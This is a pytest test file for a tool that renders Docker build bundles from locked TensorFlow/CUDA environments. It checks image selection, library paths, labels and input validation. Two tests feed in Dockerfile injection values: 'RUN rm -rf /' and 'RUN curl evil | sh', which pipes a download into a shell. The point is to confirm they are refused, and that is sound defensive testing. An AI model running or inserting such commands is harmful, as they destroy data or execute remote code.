"""envlock.render: the context computed from a Lock and the options, and its checks.

The golden files of whole bundles are in test_render_golden.py; these tests
pin the decisions one by one on small Locks made here.
"""

from __future__ import annotations

import hashlib
import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from envlock import render
from envlock.errors import DataError, UsageError
from envlock.model import Constraints, Lock, LockedPackage, LockedWheel, LockInput, Resolution
from envlock.render import RenderOptions, bundle_context, envlock_runtime, render_bundle

REPO = Path(__file__).resolve().parent.parent
LOCK_FILES = {"pylock.toml": b"lock-version = '1.0'\n", "requirements.txt": b"x==1\n"}
NVIDIA_CU12 = (
    "nvidia-cublas-cu12",
    "nvidia-cuda-cupti-cu12",
    "nvidia-cuda-nvcc-cu12",
    "nvidia-cuda-nvrtc-cu12",
    "nvidia-cuda-runtime-cu12",
    "nvidia-cudnn-cu12",
    "nvidia-cufft-cu12",
    "nvidia-curand-cu12",
    "nvidia-cusolver-cu12",
    "nvidia-cusparse-cu12",
    "nvidia-nccl-cu12",
    "nvidia-nvjitlink-cu12",
)


def make_lock(
    *,
    python: str = "3.11",
    cuda_source: str = "system",
    base_image: str = "nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04",
    cuda_image_version: str = "12.2.2",
    digest: str | None = None,
    packages: tuple[str, ...] = ("tensorflow",),
    warnings: tuple[str, ...] = (),
    cuda: str = "12.2",
) -> Lock:
    res = Resolution(
        framework="tensorflow",
        version="2.15.1",
        python=python,
        python_supported=("3.9", "3.10", "3.11"),
        cuda=cuda,
        cudnn="8.9",
        driver_min="525.60.13",
        compute_capabilities=("sm_35", "sm_50", "sm_60", "sm_70", "sm_75", "compute_80"),
        cuda_source=cuda_source,
        os=base_image.rsplit("-", 1)[-1],
        base_image=base_image,
        base_image_digest=digest,
        cuda_image_version=cuda_image_version,
        image_cudnn=None,
        and_cuda=(),
        requires_python=">=3.9",
        matrix_version="2026-11-30",
        matrix_digest="0" * 64,
        warnings=warnings,
    )
    pkgs = tuple(
        LockedPackage(
            name=n,
            version="1.0",
            wheels=(LockedWheel(f"{n}-1.0-py3-none-any.whl", "file:///w.whl", 1, "0" * 64),),
        )
        for n in sorted(packages)
    )
    return Lock(res, LockInput(Constraints(spec="tensorflow==2.15.1")), pkgs, "uv", "0.0")


def stages(dockerfile: str) -> dict[str, str]:
    """{stage alias: its text} of a rendered Dockerfile."""
    out: dict[str, str] = {}
    current = "preamble"
    for line in dockerfile.splitlines():
        m = re.match(r"^FROM \S+ AS (\S+)$", line)
        if m:
            current = m.group(1)
        out[current] = out.get(current, "") + line + "\n"
    return out


def env_value(dockerfile: str, stage: str, name: str) -> str | None:
    text = stages(dockerfile)[stage].replace("\\\n", " ")
    for line in text.splitlines():
        if line.startswith("ENV "):
            for word in shlex.split(line[4:], posix=False):
                key, _, value = word.partition("=")
                if key == name:
                    return value
    return None


def labels(dockerfile: str) -> dict[str, str]:
    text = stages(dockerfile)["runtime"].replace("\\\n", " ")
    line = next(x for x in text.splitlines() if x.startswith("LABEL "))
    return dict(word.split("=", 1) for word in shlex.split(line[6:]))


# ----------------------------------------------------------------- python source


@pytest.mark.parametrize(
    ("python", "image", "expected"),
    [
        ("3.10", "nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04", "apt"),
        ("3.11", "nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04", "uv"),
        ("3.12", "nvidia/cuda:12.6.3-cudnn-runtime-ubuntu24.04", "apt"),
        ("3.13", "nvidia/cuda:12.6.3-cudnn-runtime-ubuntu24.04", "uv"),
        ("3.8", "nvidia/cuda:11.2.2-cudnn8-runtime-ubuntu20.04", "apt"),
    ],
)
def test_python_source_follows_the_os(python: str, image: str, expected: str) -> None:
    version = image.split(":")[1].split("-")[0]
    ctx = bundle_context(
        make_lock(python=python, base_image=image, cuda_image_version=version),
        RenderOptions(),
        LOCK_FILES,
    )
    assert ctx.python_from == expected
    text = render_bundle(
        make_lock(python=python, base_image=image, cuda_image_version=version),
        RenderOptions(),
        LOCK_FILES,
    )["Dockerfile"]
    assert isinstance(text, str)
    build = stages(text)["build"]
    if expected == "apt":
        wanted = f"apt-get install -y --no-install-recommends python{python} python{python}-venv"
        assert wanted in build
        assert "uv python install" not in text
    else:
        assert f"uv python install {python}" in build
        assert "COPY --from=build /opt/python /opt/python" in stages(text)["runtime"]
        assert "FROM ${UV_IMAGE} AS uv" in text


def test_python_from_apt_refuses_another_minor() -> None:
    with pytest.raises(UsageError) as err:
        bundle_context(make_lock(python="3.11"), RenderOptions(python_from="apt"), LOCK_FILES)
    assert "ubuntu22.04 ships Python 3.10, the lock needs Python 3.11" in err.value.message
    assert err.value.hint and "--python-from uv" in err.value.hint


def test_python_from_image_installs_no_python() -> None:
    files = render_bundle(
        make_lock(),
        RenderOptions(base_image="envlock-test/bookworm-python:1", python_from="image"),
        LOCK_FILES,
    )
    text = files["Dockerfile"]
    assert isinstance(text, str)
    assert "apt-get" not in text and "uv python" not in text
    assert "RUN python3.11 -m venv /opt/venv" in stages(text)["build"]
    assert "ARG BASE_IMAGE=envlock-test/bookworm-python:1\n" in text
    assert "envlock resolved nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04" in text


# ----------------------------------------------------------------- CUDA from wheels


def test_pip_source_puts_every_nvidia_wheel_on_the_library_path() -> None:
    lock = make_lock(
        cuda_source="pip",
        base_image="nvidia/cuda:12.2.2-base-ubuntu22.04",
        packages=("tensorflow", *NVIDIA_CU12),
    )
    text = render_bundle(lock, RenderOptions(), LOCK_FILES)["Dockerfile"]
    assert isinstance(text, str)
    site = "/opt/venv/lib/python3.11/site-packages"
    value = env_value(text, "runtime", "LD_LIBRARY_PATH")
    assert value is not None
    dirs, _, rest = value.partition("${LD_LIBRARY_PATH")
    assert rest == ":+:${LD_LIBRARY_PATH}}"  # no empty entry (the current folder) when unset
    expected = sorted(
        f"{site}/nvidia/{n.removeprefix('nvidia-').removesuffix('-cu12').replace('-', '_')}/lib"
        for n in NVIDIA_CU12
    )
    assert dirs.split(":") == expected
    path = env_value(text, "runtime", "PATH")
    assert path == f"/opt/venv/bin:{site}/nvidia/cuda_nvcc/bin:${{PATH}}"
    boot = render_bundle(lock, RenderOptions(), LOCK_FILES)["bootstrap.sh"]
    assert isinstance(boot, str)
    assert "$site/nvidia/cudnn/lib" in boot and "LD_LIBRARY_PATH" in boot


def test_system_source_leaves_the_library_path_alone() -> None:
    files = render_bundle(make_lock(), RenderOptions(), LOCK_FILES)
    assert "LD_LIBRARY_PATH" not in files["Dockerfile"]
    assert "LD_LIBRARY_PATH" not in files["bootstrap.sh"]


def test_pip_source_without_nvidia_wheels_is_warned() -> None:
    ctx = bundle_context(
        make_lock(cuda_source="pip", base_image="nvidia/cuda:12.2.2-base-ubuntu22.04"),
        RenderOptions(),
        LOCK_FILES,
    )
    assert any("holds no nvidia-* wheels" in w for w in ctx.warnings)


# ----------------------------------------------------------------- base image


def test_digest_from_the_resolution_pins_the_default() -> None:
    digest = "sha256:" + "a" * 64
    text = render_bundle(make_lock(digest=digest), RenderOptions(), LOCK_FILES)["Dockerfile"]
    assert f"ARG BASE_IMAGE=nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04@{digest}\n" in text
    assert "not pinned" not in text


def test_base_image_override_and_digest() -> None:
    digest = "sha256:" + "b" * 64
    mirror = "registry.example:5000/mirror/cuda:12.2.2-r"
    opts = RenderOptions(base_image=mirror, base_digest=digest)
    ctx = bundle_context(make_lock(), opts, LOCK_FILES)
    assert ctx.base_image == f"registry.example:5000/mirror/cuda:12.2.2-r@{digest}"
    assert ctx.base_overridden and ctx.base_pinned


def test_unpinned_base_is_warned() -> None:
    ctx = bundle_context(make_lock(), RenderOptions(), LOCK_FILES)
    assert any("not pinned by digest" in w for w in ctx.warnings)


@pytest.mark.parametrize(
    ("options", "fragment"),
    [
        (RenderOptions(base_image="nvidia/cuda:12.2 \nRUN rm -rf /"), "is not an image reference"),
        (RenderOptions(base_image="Nvidia/CUDA:x"), "is not an image reference"),
        (RenderOptions(base_image="${EVIL}"), "is not an image reference"),
        (RenderOptions(base_digest="sha256:abc"), "is not a sha256 digest"),
        (RenderOptions(base_digest="md5:" + "0" * 32), "is not a sha256 digest"),
        (RenderOptions(os="debian12"), "is not an Ubuntu release"),
        (RenderOptions(os="ubuntu16.04"), "images exist for ubuntu20.04, ubuntu22.04"),
        (RenderOptions(python_from="conda"), "is not one of image, apt, uv"),
        (
            RenderOptions(
                base_image="nvidia/cuda:12.2.2-base-ubuntu22.04@sha256:" + "1" * 64,
                base_digest="sha256:" + "2" * 64,
            ),
            "but --base-digest says",
        ),
        (
            RenderOptions(base_image="envlock-test/bookworm-python:1", os="ubuntu24.04"),
            "has no -ubuntuXX.YY tag to change",
        ),
    ],
)
def test_bad_options_are_usage_errors(options: RenderOptions, fragment: str) -> None:
    with pytest.raises(UsageError) as err:
        render_bundle(make_lock(), options, LOCK_FILES)
    assert fragment in err.value.message
    assert err.value.hint
    assert err.value.exit_code == 2


def test_os_moves_the_tag_and_drops_a_foreign_digest() -> None:
    lock = make_lock(
        python="3.12",
        base_image="nvidia/cuda:12.6.3-cudnn-runtime-ubuntu22.04",
        cuda_image_version="12.6.3",
        digest="sha256:" + "c" * 64,
    )
    ctx = bundle_context(lock, RenderOptions(os="ubuntu24.04"), LOCK_FILES)
    assert ctx.base_image == "nvidia/cuda:12.6.3-cudnn-runtime-ubuntu24.04"
    assert ctx.os == "ubuntu24.04" and ctx.python_from == "apt"
    assert any("belongs to nvidia/cuda:12.6.3-cudnn-runtime-ubuntu22.04" in w for w in ctx.warnings)
    assert ctx.regenerate == "envlock render . --os ubuntu24.04"


def test_end_of_life_images_are_marked() -> None:
    lock = make_lock(
        python="3.8",
        base_image="nvidia/cuda:11.2.2-cudnn8-runtime-ubuntu20.04",
        cuda_image_version="11.2.2",
        cuda="11.2",
    )
    files = render_bundle(lock, RenderOptions(), LOCK_FILES)
    text = files["Dockerfile"]
    assert isinstance(text, str)
    eol = [line for line in text.splitlines() if line.startswith("# END OF LIFE: ")]
    assert len(eol) == 1
    assert "nvidia/cuda 11.2 images are end of life" in eol[0]
    assert "nvidia/cuda:11.2.2-cudnn8-runtime-ubuntu20.04 may vanish" in eol[0]
    assert "are end of life" in files["README.md"]
    current = render_bundle(make_lock(), RenderOptions(), LOCK_FILES)["Dockerfile"]
    assert "END OF LIFE" not in current


# ----------------------------------------------------------------- TLS-intercepting networks


def test_ca_cert_reaches_the_build_stage_only(tmp_path: Path) -> None:
    pem = Path("/etc/ssl/certs/ca-certificates.crt")
    files = render_bundle(make_lock(), RenderOptions(ca_cert=str(pem)), LOCK_FILES)
    assert files["envlock-ca.pem"] == pem.read_bytes()
    text = files["Dockerfile"]
    assert isinstance(text, str)
    parts = stages(text)
    assert "COPY envlock-ca.pem /etc/envlock/ca.pem" in parts["build"]
    assert env_value(text, "build", "PIP_CERT") == "/etc/envlock/ca.pem"
    assert "ca.pem" not in parts["runtime"] and "envlock-ca" not in parts["runtime"]
    assert "!envlock-ca.pem" in files[".dockerignore"]
    plain = render_bundle(make_lock(), RenderOptions(), LOCK_FILES)
    assert "envlock-ca.pem" not in plain and "envlock-ca" not in plain[".dockerignore"]


def test_ca_cert_must_be_a_pem_file(tmp_path: Path) -> None:
    der = tmp_path / "ca.der"
    der.write_bytes(b"\x30\x82\x01\x0a")
    with pytest.raises(UsageError, match="no PEM certificate"):
        render_bundle(make_lock(), RenderOptions(ca_cert=str(der)), LOCK_FILES)
    with pytest.raises(UsageError, match="no such file"):
        render_bundle(make_lock(), RenderOptions(ca_cert=str(tmp_path / "x")), LOCK_FILES)


# ----------------------------------------------------------------- labels, expect.json, files


def test_labels_carry_the_lock() -> None:
    text = render_bundle(make_lock(), RenderOptions(), LOCK_FILES)["Dockerfile"]
    assert isinstance(text, str)
    found = labels(text)
    digest = "sha256:" + hashlib.sha256(LOCK_FILES["pylock.toml"]).hexdigest()
    assert found["io.envlock.lock.digest"] == digest
    assert found["io.envlock.framework"] == "tensorflow"
    assert found["io.envlock.framework.version"] == "2.15.1"
    assert found["io.envlock.python"] == "3.11"
    assert found["io.envlock.cuda"] == "12.2"
    assert found["io.envlock.cudnn"] == "8.9"
    assert found["io.envlock.cuda-source"] == "system"
    assert found["org.opencontainers.image.version"] == "2.15.1"
    assert found["org.opencontainers.image.base.name"] == "${BASE_IMAGE}"
    assert {"org.opencontainers.image.title", "org.opencontainers.image.description"} <= set(found)


def test_runtime_stage_is_not_root_and_has_no_compilers() -> None:
    for python in ("3.10", "3.11"):
        text = render_bundle(make_lock(python=python), RenderOptions(), LOCK_FILES)["Dockerfile"]
        assert isinstance(text, str)
        runtime = stages(text)["runtime"]
        users = [line for line in runtime.splitlines() if line.startswith("USER ")]
        assert users == ["USER 10001:10001"]
        for word in ("gcc", "g++", "build-essential", "-devel", "-dev ", "pip install"):
            assert word not in runtime
        assert "--require-hashes --no-deps" in stages(text)["build"]
        assert "--no-cache-dir" in stages(text)["build"]


def test_expect_json_follows_the_contract() -> None:
    files = render_bundle(make_lock(), RenderOptions(), LOCK_FILES)
    expect = json.loads(files["expect.json"])
    assert expect == {
        "framework": "tensorflow",
        "version": "2.15.1",
        "python": "3.11",
        "cuda": "12.2",
        "cudnn": "8.9",
        "compute_capabilities": ["sm_35", "sm_50", "sm_60", "sm_70", "sm_75", "compute_80"],
        "lock_digest": "sha256:" + hashlib.sha256(LOCK_FILES["pylock.toml"]).hexdigest(),
    }


def test_bundle_files_and_copies() -> None:
    files = render_bundle(make_lock(), RenderOptions(), LOCK_FILES)
    assert set(files) == {
        "Dockerfile",
        ".dockerignore",
        "bootstrap.sh",
        "README.md",
        "expect.json",
        "runtime.json",
        "render.json",
        "envlock_runtime.py",
        "envlock_smoke.py",
    }
    assert files["envlock_smoke.py"] == (REPO / "envlock/smoke/harness.py").read_bytes()
    assert files["envlock_runtime.py"] == (REPO / "envlock/render/envlock_runtime.py").read_bytes()
    assert "bootstrap.sh" in render.EXECUTABLE and len(render.EXECUTABLE) == 1
    ignored = str(files[".dockerignore"]).splitlines()
    copied = set()
    for line in str(files["Dockerfile"]).splitlines():
        if line.startswith("COPY ") and "--from=" not in line:
            copied.update(line.split()[1:-1])
    assert copied == {x[1:] for x in ignored if x.startswith("!")}


def test_render_is_deterministic() -> None:
    lock = make_lock(cuda_source="pip", packages=("tensorflow", *NVIDIA_CU12))
    assert render_bundle(lock, RenderOptions(), LOCK_FILES) == render_bundle(
        lock, RenderOptions(), LOCK_FILES
    )


def test_runtime_settings_are_kept_and_checked() -> None:
    mine = {**envlock_runtime.DEFAULTS, "mixed_precision": "mixed_float16", "seed": 7}
    files = render_bundle(make_lock(), RenderOptions(runtime=mine), LOCK_FILES)
    assert json.loads(files["runtime.json"]) == mine
    default = json.loads(render_bundle(make_lock(), RenderOptions(), LOCK_FILES)["runtime.json"])
    assert default == envlock_runtime.DEFAULTS
    with pytest.raises(UsageError, match="mixed_precision 'fp8' is not one of"):
        render_bundle(make_lock(), RenderOptions(runtime={"mixed_precision": "fp8"}), LOCK_FILES)
    for seed in (2**32, -1, True):
        with pytest.raises(
            UsageError, match="seed must be null or an integer from 0 to 4294967295"
        ):
            render_bundle(make_lock(), RenderOptions(runtime={"seed": seed}), LOCK_FILES)
    top = {**envlock_runtime.DEFAULTS, "seed": 2**32 - 1}
    assert (
        json.loads(
            render_bundle(make_lock(), RenderOptions(runtime=top), LOCK_FILES)["runtime.json"]
        )
        == top
    )


def test_missing_lock_file_bytes_is_a_data_error() -> None:
    with pytest.raises(DataError, match="requirements.txt"):
        render_bundle(make_lock(), RenderOptions(), {"pylock.toml": b""})


@pytest.mark.parametrize(
    "field",
    ["version", "cuda", "cudnn", "framework", "base_image", "driver_min"],
)
def test_lock_values_that_could_inject_are_refused(field: str) -> None:
    from dataclasses import replace

    lock = make_lock()
    bad = replace(lock.resolution, **{field: "12.2\nRUN curl evil | sh"})
    with pytest.raises(DataError, match=rf"resolution.{field} .* is not"):
        render_bundle(replace(lock, resolution=bad), RenderOptions(), LOCK_FILES)


def test_bad_python_in_lock_is_a_data_error() -> None:
    with pytest.raises(DataError, match="is not a CPython 3.X minor"):
        render_bundle(make_lock(python="2.7"), RenderOptions(), LOCK_FILES)


# ----------------------------------------------------------------- property tests


_ref_chars = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=60
)


@given(_ref_chars)
def test_image_references_never_inject(ref: str) -> None:
    """Whatever --base-image says, it is refused or a single safe word."""
    try:
        ctx = bundle_context(make_lock(), RenderOptions(base_image=ref), LOCK_FILES)
    except UsageError as e:
        assert "is not an image reference" in e.message
        return
    assert re.fullmatch(r"[A-Za-z0-9._/:@-]+", ctx.base_image)


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=8,
)


@given(st.dictionaries(st.sampled_from([*envlock_runtime.DEFAULTS, "other"]), _json, max_size=6))
def test_runtime_json_is_validated_or_refused_clearly(data: dict[str, Any]) -> None:
    try:
        out = envlock_runtime.validate(data)
    except envlock_runtime.ConfigError as e:
        assert str(e).startswith("runtime.json: ")
        return
    assert set(out) == set(envlock_runtime.DEFAULTS)
    assert out["mixed_precision"] in envlock_runtime.POLICIES
    assert isinstance(out["memory_growth"], bool) and isinstance(out["determinism"], bool)


def test_runtime_module_checks_a_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = tmp_path / "runtime.json"
    good.write_text(json.dumps({"schema": "envlock.runtime/v1", "visible_devices": "0,1"}))
    assert envlock_runtime.main([str(good)]) == 0
    assert json.loads(capsys.readouterr().out)["visible_devices"] == "0,1"
    bad = tmp_path / "bad.json"
    bad.write_text('{"visible_devices": "first"}')
    assert envlock_runtime.main([str(bad)]) == 2
    assert "is not a comma-separated list" in capsys.readouterr().err
    assert envlock_runtime.main([str(tmp_path / "none.json")]) == 2


def test_render_json_records_the_options_as_given() -> None:
    options = RenderOptions(
        base_image="envlock-test/bookworm-python:1",
        python_from="image",
        runtime={**envlock_runtime.DEFAULTS, "seed": 3},  # runtime.json's, not render.json's
    )
    files = render_bundle(make_lock(), options, LOCK_FILES)
    assert files["render.json"] == (
        "{\n"
        '  "base_digest": null,\n'
        '  "base_image": "envlock-test/bookworm-python:1",\n'
        '  "ca_cert": null,\n'
        '  "os": null,\n'
        '  "python_from": "image",\n'
        '  "schema": "envlock.render/v1"\n'
        "}\n"
    )
    plain = render_bundle(make_lock(), RenderOptions(), LOCK_FILES)["render.json"]
    assert json.loads(plain) == {
        "schema": "envlock.render/v1",
        **dict.fromkeys(("base_digest", "base_image", "ca_cert", "os", "python_from")),
    }


def test_recorded_options_stand_in_for_those_not_given(tmp_path: Path) -> None:
    from envlock.bundle.folder import recorded_options

    recorded = RenderOptions(base_image="envlock-test/bookworm-python:1", python_from="uv")
    files = render_bundle(make_lock(), recorded, LOCK_FILES)
    (tmp_path / "render.json").write_text(str(files["render.json"]))
    mine = {**envlock_runtime.DEFAULTS, "determinism": True}
    (tmp_path / "runtime.json").write_text(json.dumps(mine))
    assert render.read_render_options(tmp_path) == {
        "base_digest": None,
        "base_image": "envlock-test/bookworm-python:1",
        "ca_cert": None,
        "os": None,
        "python_from": "uv",
    }
    options, note = recorded_options(tmp_path, RenderOptions(python_from="image"))
    assert note is None
    assert options == RenderOptions(
        base_image="envlock-test/bookworm-python:1", python_from="image", runtime=mine
    )
    # a folder without render.json (an older bundle): only what is given, and a note
    older = tmp_path / "older"
    older.mkdir()
    options, note = recorded_options(older, RenderOptions(base_digest="sha256:" + "a" * 64))
    assert options == RenderOptions(base_digest="sha256:" + "a" * 64)
    assert note is not None and note.startswith(f"{older} has no render.json (bundles made")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{", "not valid JSON: Expecting property name"),
        ('{"base_image": "x"}', "not an envlock.render/v1 document"),
        ('{"schema": "envlock.render/v1", "base": "x"}', "unknown option 'base'"),
        ('{"schema": "envlock.render/v1", "os": 22.04}', "os must be a string or null"),
    ],
)
def test_a_broken_render_json_is_bad_input(tmp_path: Path, text: str, words: str) -> None:
    (tmp_path / "render.json").write_text(text)
    with pytest.raises(UsageError, match=re.escape(words)) as err:
        render.read_render_options(tmp_path)
    assert err.value.message.startswith(f"{tmp_path / 'render.json'}: ")
    assert err.value.hint is not None and "delete it" in err.value.hint
